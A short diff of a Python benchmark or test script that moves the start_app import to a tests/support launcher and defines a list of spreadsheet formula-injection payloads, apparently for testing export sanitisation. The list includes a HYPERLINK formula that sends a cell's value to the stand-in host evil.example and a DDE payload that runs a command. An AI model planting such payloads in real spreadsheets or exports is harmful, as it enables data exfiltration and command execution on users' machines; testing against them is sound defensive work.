@@ -16,13 +16,17 @@ import os
 import secrets
 import statistics
 import tempfile
+import sys
 import threading
 import time
 from pathlib import Path
 
 import httpx
 
-from assistant.launch import start_app
+PROJECT_ROOT = Path(__file__).resolve().parent.parent
+sys.path.insert(0, str(PROJECT_ROOT / "tests"))  # the launchers the tests use (tests/support/)
+
+from support.launch import start_app  # noqa: E402
 from load import free_port  # bench/load.py, beside this script
 
 PAYLOADS = ['=HYPERLINK("http://evil.example/?d="&B2,"Klik")', "+cmd|' /C calc'!A0", "@SUM(1+1)", "\r=1+2", "\t=1+2"]
